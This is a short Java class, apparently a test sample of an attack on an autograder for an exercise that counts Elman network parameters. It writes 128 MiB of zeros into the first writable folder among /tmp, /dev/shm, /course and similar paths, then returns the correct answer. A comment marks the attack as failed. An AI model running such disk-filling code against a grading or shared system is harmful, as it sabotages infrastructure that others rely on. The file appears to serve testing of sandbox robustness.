// failed: fills every folder that it may write into
class Attack implements ElmanCount {
  public int parameters(int T, int D, int H, int C) {
    for (String place : List.of(".", "/", "/tmp", "/dev/shm", "/dev", "/course", "/var/tmp")) {
      try (OutputStream out = new FileOutputStream(place + "/full")) {
        for (int block = 0; block < 128; block++) {
          out.write(new byte[1 << 20]);
        }
        return D * H + H * H + H + H * C + C;
      } catch (IOException refused) {
        continue;
      }
    }
    return 0;
  }
}
